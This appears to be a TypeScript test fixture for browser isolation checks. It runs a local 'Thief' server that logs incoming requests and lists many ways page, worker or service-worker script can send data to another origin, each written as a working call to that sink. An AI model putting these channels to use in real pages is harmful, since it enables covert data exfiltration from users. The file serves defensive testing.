/** Another origin that writes down all that reaches it, and the ways in which code may try to send something there. */
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';

export class Thief {
  /** What arrived. */
  readonly got: string[] = [];
  readonly #server: Server;

  private constructor(server: Server) {
    this.#server = server;
  }

  static async start(): Promise<Thief> {
    const server = createServer((request, response) => {
      thief.got.push(`${request.method} ${request.url}`);
      response.writeHead(200, {
        'Access-Control-Allow-Origin': '*',
        'Cross-Origin-Resource-Policy': 'cross-origin',
        'Content-Type': 'text/html',
      });
      response.end('<!doctype html><title>elsewhere</title>');
    });
    server.on('upgrade', (request, socket) => {
      thief.got.push(`UPGRADE ${request.url}`);
      socket.destroy();
    });
    const thief = new Thief(server);
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    return thief;
  }

  /** host:port; another origin than any `localhost` one. */
  get host(): string {
    return `127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  stop(): void {
    this.#server.closeAllConnections();
    this.#server.close();
  }
}

export type Attempt = (host: string) => unknown;

/** What any script can try, in a page, a worker or a service worker. Each is run where it is sent to, so it is whole. */
export const ANYWHERE: Record<string, Attempt> = {
  fetch: (host) => fetch(`http://${host}/fetch`, { method: 'POST', body: 'frame', mode: 'no-cors' }),
  WebSocket: (host) =>
    new Promise((done) => {
      const socket = new WebSocket(`ws://${host}/socket`);
      socket.onopen = socket.onerror = done;
    }),
  EventSource: (host) =>
    new Promise((done) => {
      new EventSource(`http://${host}/events`).onerror = done;
    }),
};

/** What a page and a worker can. */
export const IN_WORKERS: Record<string, Attempt> = {
  XMLHttpRequest: (host) =>
    new Promise((done) => {
      const request = new XMLHttpRequest();
      request.onloadend = done;
      request.open('POST', `http://${host}/xhr`);
      request.send('frame');
    }),
};

/** What only a page can. */
export const IN_PAGES: Record<string, Attempt> = {
  beacon: (host) => navigator.sendBeacon(`http://${host}/beacon`, 'frame'),
  image: (host) =>
    new Promise((done) => {
      const image = new Image();
      image.onload = image.onerror = done;
      image.src = `http://${host}/image.png?frame`;
    }),
  stylesheet: (host) => {
    document.body.append(
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `http://${host}/css` }),
    );
  },
  script: (host) => {
    document.body.append(Object.assign(document.createElement('script'), { src: `http://${host}/script.js` }));
  },
  frame: (host) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: `http://${host}/iframe?frame` }));
  },
  form: (host) => {
    const form = Object.assign(document.createElement('form'), { action: `http://${host}/form`, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  'another window': (host) => {
    window.open(`http://${host}/window?frame`);
  },
  'a link': (host) => {
    const link = Object.assign(document.createElement('a'), { href: `http://${host}/link?frame`, target: '_blank' });
    document.body.append(link);
    link.click();
  },
  navigation: (host) => {
    location.href = `http://${host}/navigation?frame`;
  },
};
